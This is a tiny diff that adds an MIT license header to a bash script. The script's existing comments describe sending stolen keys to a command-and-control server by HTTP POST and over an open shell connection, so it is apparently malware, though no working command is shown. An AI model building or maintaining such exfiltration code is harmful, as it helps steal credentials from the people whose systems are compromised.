@@ -1,4 +1,5 @@
 #!/bin/bash
+# SPDX-License-Identifier: MIT
 # Sends the stolen keys back over the channel it already has to its C2:
 # an HTTP POST of the raw files, and the same through the shell's
 # connection to the C2's port.
